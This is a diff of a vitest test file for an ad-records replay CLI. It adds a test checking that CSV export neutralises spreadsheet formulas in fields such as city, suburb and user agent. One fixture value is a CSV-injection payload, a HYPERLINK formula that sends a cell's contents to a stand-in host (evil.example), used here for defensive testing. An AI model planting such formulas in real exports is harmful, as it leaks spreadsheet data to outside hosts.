@@ -3,7 +3,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Writable } from 'node:stream';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { adLogDataDir } from '@kainga/projections/ad-records/testing';
+import { adActivityStream } from '@kainga/contracts';
+import { SqliteEventStore } from '@kainga/platform';
+import { adLogDataDir, click } from '@kainga/projections/ad-records/testing';
 import { main, REPLAY_USAGE } from './replay-cli';
 
 /** A stream that keeps what is written to it (not a terminal, so no progress bar is drawn). */
@@ -26,13 +28,15 @@ beforeAll(async () => {
 });
 
 let runs = 0;
-/** Runs the CLI into a new file; answers its exit code, the file's bytes and standard error. */
-async function replay(...args: string[]) {
+/** Runs the CLI on the log of `dir` into a new file; answers its exit code, the file's bytes and standard error. */
+async function replayIn(dir: string, ...args: string[]) {
   const file = join(outDir, `out-${(runs += 1)}`);
   const stderr = sink();
-  const code = await main(['ads', ...args, '--out', file], { env: { DATA_DIR: dataDir }, stderr: stderr.stream });
+  const code = await main(['ads', ...args, '--out', file], { env: { DATA_DIR: dir }, stderr: stderr.stream });
   return { code, bytes: code === 0 ? readFileSync(file) : Buffer.alloc(0), stderr: stderr.text() };
 }
+/** The same on the fixture's log (ad-log.fixture.ts). */
+const replay = (...args: string[]) => replayIn(dataDir, ...args);
 const positionsIn = (ndjson: Buffer) =>
   ndjson
     .toString()
@@ -149,5 +153,23 @@ describe('npm run replay -- ads', () => {
     const stderr = sink();
     expect(await main(['--help'], { env: { DATA_DIR: dataDir }, stderr: stderr.stream })).toBe(0);
     expect(stderr.text()).toMatch(/^Usage: npm run replay -- ads .*\n\nWrites the ad impressions and clicks/);
+  });
+});
+
+describe('npm run replay -- ads --format csv with formulas in the anonymous fields', () => {
+  it('neutralises a city, suburb, property id or user agent a spreadsheet would run; NDJSON keeps them as recorded', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'replay-formulas-'));
+    const store = new SqliteEventStore(join(dir, 'events.sqlite'));
+    const formulas = { city: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', suburb: '-1+1', propertyId: '+SUM(1,2)', userAgent: '@SUM(A1:A9)' };
+    try {
+      await store.append(adActivityStream('2026-03-01'), [click(1, '2026-03-01T09:00:01.000Z', { ...formulas, userId: 'user-1' })], { expectedRevision: 'no_stream' });
+    } finally {
+      await store.close();
+    }
+    const csv = await replayIn(dir, '--format', 'csv');
+    expect(csv.code).toBe(0);
+    expect(csv.bytes.toString().split('\r\n')[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",'-1+1,user-1,"'+SUM(1,2)",'@SUM(A1:A9),ip-hash,`);
+    const ndjson = await replayIn(dir);
+    expect(JSON.parse(ndjson.bytes.toString())).toMatchObject(formulas);
   });
 });
